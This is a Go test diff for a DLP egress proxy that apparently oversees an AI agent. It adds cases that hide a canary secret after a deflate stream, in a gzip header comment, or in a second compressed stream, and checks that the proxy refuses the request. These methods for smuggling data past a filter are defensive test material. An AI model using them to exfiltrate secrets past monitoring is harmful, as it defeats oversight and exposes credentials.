@@ -32,18 +32,20 @@ import (
 // decoding skips.
 func TestAttackDLPBytesAfterCompressedBody(t *testing.T) {
 	tail := []byte(" token " + canary)
+	const after = "request body has bytes after its deflate stream"
 	tests := map[string]struct {
 		body     []byte
 		encoding string
+		reason   string
 	}{
-		"zlib":         {append(zlibbed(t, []byte("hello")), tail...), "deflate"},
-		"raw deflate":  {append(rawDeflated(t, []byte("hello")), tail...), "deflate"},
-		"gzip comment": {gzipHeaderComment(t, canary, []byte("hello")), "gzip"},
+		"zlib":         {append(zlibbed(t, []byte("hello")), tail...), "deflate", after},
+		"raw deflate":  {append(rawDeflated(t, []byte("hello")), tail...), "deflate", after},
+		"gzip comment": {gzipHeaderComment(t, canary, []byte("hello")), "gzip", leakReason},
 	}
 	for name, tc := range tests {
 		t.Run(name, func(t *testing.T) {
 			f := newProxyFixture(t)
-			f.sendLeak(t, newReq(t, "POST", "https://open.example.test/upload", tc.body, "Content-Encoding", tc.encoding), leakReason)
+			f.sendLeak(t, newReq(t, "POST", "https://open.example.test/upload", tc.body, "Content-Encoding", tc.encoding), tc.reason)
 		})
 	}
 }
@@ -287,5 +289,23 @@ func TestAttackExhaustDenialKeysFromRepoNames(t *testing.T) {
 	}
 	if len(denials) != 1 {
 		t.Errorf("%d refusals of one kind wrote %d lines at once, want 1 (the rest counted): %q", n, len(denials), denials[:min(3, len(denials))])
+	}
+}
+
+// TestAttackDLPSecondDeflateStream sends a "deflate" body of two zlib
+// streams: the bundle inflated the first and never looked at the
+// second, which an upstream that inflates what follows (or the agent's
+// accomplice) reads as the secret. A body with bytes after its stream has
+// no single reading, so it is refused.
+func TestAttackDLPSecondDeflateStream(t *testing.T) {
+	tests := map[string][]byte{
+		"zlib":        append(zlibbed(t, []byte("hello")), zlibbed(t, []byte("token "+canary))...),
+		"raw deflate": append(rawDeflated(t, []byte("hello")), rawDeflated(t, []byte("token "+canary))...),
+	}
+	for name, body := range tests {
+		t.Run(name, func(t *testing.T) {
+			f := newProxyFixture(t)
+			f.sendLeak(t, newReq(t, "POST", "https://open.example.test/upload", body, "Content-Encoding", "deflate"), "request body has bytes after its deflate stream")
+		})
 	}
 }
